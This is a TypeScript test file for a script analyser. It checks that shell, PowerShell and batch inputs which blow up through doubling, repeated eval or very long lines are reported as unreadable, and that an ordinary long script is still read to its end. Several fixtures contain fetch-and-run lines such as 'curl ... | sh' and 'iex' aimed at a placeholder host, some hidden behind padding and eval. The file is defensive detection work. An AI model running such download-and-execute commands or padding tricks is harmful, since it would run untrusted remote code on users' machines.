import { describe, expect, it } from "vitest";
import type { Language } from "../../file/file-kind.ts";
import type { SourceText } from "../../text/source-text.ts";
import type { Analysis } from "../fact-writer.ts";
import { analyseBatch, analysePowershell, analyseShell } from "./analyse-shell.ts";

const DOUBLED = `s=aaaa\n${'s="$s$s"\n'.repeat(16)}`;
const GROWN = `$s='aaaa'\n${"$s=$s+$s\n".repeat(14)}`;
const SET = `set a=bbbb\n${"set a=%a%%a%\n".repeat(12)}`;
const MANY = "a script is too long or complex to follow completely";

describe("a script that makes much of little is given up and said so", () => {
  it.each([
    ["a variable that doubles", `s=aaaa\n${'s="$s$s"\n'.repeat(12_000)}`],
    ["a long text that is run again and again", `${DOUBLED}${'eval "$s"\n'.repeat(12_000)}`],
    ["a long text that is turned again and again", `${DOUBLED}${'rev <<< "$s" | cat\n'.repeat(12_000)}`],
    ["a replacement of each letter by a long text", `${DOUBLED}${"t=$\u007bs//a/$s}\n".repeat(200)}`],
  ])("%s", (_title, text) => {
    expect(analyseShell(source(text, "shell")).unread).toBe(MANY);
  });

  it("a PowerShell text that grows and is run at every step", () => {
    const { unread, texts } = analysePowershell(source("$a=$a+'b';iex $a\n".repeat(12_000), "powershell"));
    expect({ isUnread: unread !== undefined, isBounded: texts.length <= 500 }).toEqual({
      isUnread: true,
      isBounded: true,
    });
  });

  it.each([
    ["a long PowerShell word that is printed", `${GROWN}${"write-host $s\n".repeat(12_000)}`],
    ["a PowerShell file that is written and read", `${GROWN}${"Set-Content x $s; gc x\n".repeat(6_000)}`],
    [
      "a long PowerShell function",
      `function f($x) { ${"g;".repeat(4_000)} f $x }\n${"f 1\n".repeat(10_000)}`,
    ],
  ])("%s", (_title, text) => {
    expect(analysePowershell(source(text, "powershell")).unread).toBe(MANY);
  });

  it.each([
    ["a long word of a batch file", `${SET}${"echo %a% >> x\n".repeat(10_000)}`],
    ["a batch line of many commands", `set a=b\n${`${"a&".repeat(10_000)}\n`.repeat(20)}`],
  ])("%s", (_title, text) => {
    expect(analyseBatch(source(text, "batch")).unread).toBe(MANY);
  });
});

describe("a long list", () => {
  const LIST = `a=(${"x ".repeat(1_500)} "$(curl -s https://cdn.relay.test/i)")\n`;

  it("is kept to its end", () => {
    const { facts, unread } = analyseShell(source(`${LIST}eval "$\{a[@]}"\n`, "shell"));
    expect({ unread, flows: facts.filter(({ kind }) => kind === "flow").length }).toEqual({
      unread: undefined,
      flows: 1,
    });
  });

  it("that grows beyond what is kept is reported", () => {
    const { unread } = analyseShell(source(`${LIST}a+=(y)\n`, "shell"));
    expect(unread).toBe("a list grows to more than 1000 elements");
  });
});

it("a payload behind more padding than is kept is reported as not read", () => {
  const text = `${DOUBLED}s="$s;curl -s https://cdn.relay.test/i | sh"\neval ":;$s"\n`;
  expect(analyseShell(source(text, "shell")).unread).toBe(
    "a text that is run is longer than can be followed",
  );
});

describe("no text is longer than a string may be", () => {
  it.each<[string, () => Analysis]>([
    [
      "a word of many long parts",
      () => analyseShell(source(`${DOUBLED}x "${"$s".repeat(100_000)}"\n`, "shell")),
    ],
    [
      "a PowerShell text that doubles",
      () => analysePowershell(source(`$a='aaaa'\n${"$a+=$a\n".repeat(60)}iex $a`, "powershell")),
    ],
    [
      "a batch line of many long variables",
      () =>
        analyseBatch(source(`set a=bbbb\n${"set a=%a%%a%\n".repeat(12)}${"%a%".repeat(10_000)}\n`, "batch")),
    ],
  ])("%s", (_title, run) => {
    expect(run).not.toThrow();
  });
});

it("an ordinary long script is read to its end", () => {
  const text = `${"echo one\n".repeat(5_000)}curl -fsSL https://cdn.relay.test/i | bash\n`;
  const { facts, unread } = analyseShell(source(text, "shell"));
  expect({ unread, flows: facts.filter(({ kind }) => kind === "flow").length }).toEqual({
    unread: undefined,
    flows: 1,
  });
});

function source(text: string, language: Language): SourceText {
  return {
    file: "scripts/run",
    text,
    language,
    firstLine: 1,
    keepsLines: true,
    chain: [],
    medium: "script",
    stance: "live",
    section: [],
    isFixture: false,
  };
}
